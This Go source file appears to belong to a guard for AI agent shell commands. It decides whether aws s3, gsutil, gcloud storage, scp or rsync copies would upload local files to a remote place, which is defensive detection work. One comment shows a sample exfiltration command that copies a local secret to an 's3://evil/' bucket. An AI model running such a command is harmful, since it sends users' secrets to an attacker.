package policy

import (
	"strings"

	"github.com/agenthooks/agenthooks/guard/shell"
)

// copySends reports whether a copy between this machine and another (aws s3 cp|sync|mv, gsutil
// and gcloud storage cp|rsync|mv, scp, rsync) can send something of this machine's: a local
// operand followed by a remote one. A download (every source remote, the destination here) or a
// copy between two remote places sends nothing away, so a secret read on the same line
// (source .env && aws s3 cp s3://bucket/model.bin .) is not sent by it.
//
// The operands are the words after the program's own (start) that are neither options nor the
// value of an option the tool's table names (valueOption). A word after an option the table
// does not know may be its value or an operand: it is taken as an operand, so that an unknown
// option errs towards sending, and an option's value cannot pose as the remote source in front
// of a local file (aws s3 cp --include s3://x ./secret s3://evil/ is a send).
func copySends(args []shell.Word, start int, remote func(string) bool, valueOption func(string) bool) bool {
	local := false
	for i := start; i < len(args); i++ {
		v := args[i].Value
		switch {
		case v == "--":
			continue
		case strings.HasPrefix(v, "-") && len(v) > 1:
			if !strings.Contains(v, "=") && valueOption(v) {
				i++ // its value
			}
			continue
		case !args[i].Static: // known only when it runs: it may be a remote place or a local file
			if local {
				return true
			}
			local = true
		case remote(v):
			if local {
				return true
			}
		default:
			local = true
		}
	}
	return false
}

// s3Remote is an object store's URL as the clouds' CLIs take it.
func s3Remote(v string) bool {
	return strings.HasPrefix(v, "s3://") || strings.HasPrefix(v, "gs://") || strings.HasPrefix(v, "az://")
}

// hostRemote is scp's and rsync's remote operand: host:path, user@host:path, host::module or
// rsync://, with no slash before the first colon (./a:b is a local file).
func hostRemote(v string) bool {
	if strings.HasPrefix(v, "rsync://") || strings.HasPrefix(v, "scp://") || strings.HasPrefix(v, "sftp://") {
		return true
	}
	colon := strings.IndexByte(v, ':')
	return colon > 0 && !strings.Contains(v[:colon], "/")
}

// awsValueOption are the aws CLI's options, global and of the s3 copy commands, that take a value.
func awsValueOption(v string) bool {
	switch v {
	case "--profile", "--region", "--endpoint-url", "--output", "--query", "--color", "--ca-bundle",
		"--cli-read-timeout", "--cli-connect-timeout", "--exclude", "--include", "--acl", "--storage-class",
		"--sse", "--sse-c", "--sse-c-key", "--sse-kms-key-id", "--sse-c-copy-source", "--sse-c-copy-source-key",
		"--content-type", "--cache-control", "--content-disposition", "--content-encoding", "--content-language",
		"--expires", "--source-region", "--page-size", "--grants", "--metadata", "--metadata-directive",
		"--website-redirect", "--expected-size", "--request-payer", "--checksum-algorithm", "--copy-props":
		return true
	}
	return false
}

// gcsValueOption are gsutil's and gcloud storage's options that take a value.
func gcsValueOption(v string) bool {
	switch v {
	case "-o", "-h", "-u", "-x", "-z", "-Z", "-p", "-a", "-s", "-j", "-J", "-c", "-L", "-y",
		"--project", "--billing-project", "--account", "--configuration", "--impersonate-service-account",
		"--exclude-name-pattern", "--include-managed-folders", "--storage-class", "--predefined-acl",
		"--cache-control", "--content-type", "--content-encoding", "--content-disposition", "--content-language",
		"--custom-time", "--custom-metadata", "--encryption-key", "--format", "--verbosity", "--log-http":
		return true
	}
	return false
}

// scpValueOption are scp's and rsync's options that take a value.
func scpValueOption(v string) bool {
	switch v {
	case "-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-D", "-X", "-e", "-f", "-T", "-B", "-M",
		"--rsh", "--rsync-path", "--exclude", "--include", "--exclude-from", "--include-from", "--files-from",
		"--filter", "--chmod", "--chown", "--usermap", "--groupmap", "--log-file", "--log-file-format",
		"--password-file", "--port", "--bwlimit", "--timeout", "--contimeout", "--partial-dir", "--temp-dir",
		"--backup-dir", "--suffix", "--max-size", "--min-size", "--max-delete", "--compare-dest", "--copy-dest",
		"--link-dest", "--out-format", "--info", "--debug", "--block-size", "--checksum-choice", "--compress-choice",
		"--compress-level", "--skip-compress", "--modify-window", "--address", "--sockopts", "--iconv", "--stop-after",
		"--stop-at", "--remote-option", "--outbuf":
		return true
	}
	return false
}

// cloudCopySends is copySends for aws s3, gsutil and gcloud storage: their copy verbs, found after
// the global options; false for their other verbs (ls, cat, rm, du), which send nothing of this
// machine's. Other verbs that upload (aws s3api put-object, az storage blob upload) are isSender's.
func cloudCopySends(inv *shell.Invocation) (sends, known bool) {
	var group string // the command group the copy verbs are in: aws s3 cp, gcloud storage cp, gsutil cp
	value := gcsValueOption
	switch inv.Name {
	case "aws":
		group, value = "s3", awsValueOption
	case "gcloud":
		group = "storage"
	case "gsutil":
	default:
		return false, false
	}
	args := inv.Args
	operand := func(from int) int { // the first word from from that is no option or option's value
		for i := from; i < len(args); i++ {
			v := args[i].Value
			if !strings.HasPrefix(v, "-") {
				return i
			}
			if !strings.Contains(v, "=") && value(v) {
				i++
			}
		}
		return -1
	}
	i := operand(1)
	if group != "" {
		if i < 0 || args[i].Value != group {
			return false, false // another group (aws s3api put-object): isSender reads it
		}
		i = operand(i + 1)
	}
	if i < 0 {
		return false, true
	}
	switch args[i].Value {
	case "cp", "sync", "rsync", "mv":
		return copySends(args, i+1, s3Remote, value), true
	}
	return false, true // ls, cat, rm, mb, rb, presign: nothing of this machine's sent
}
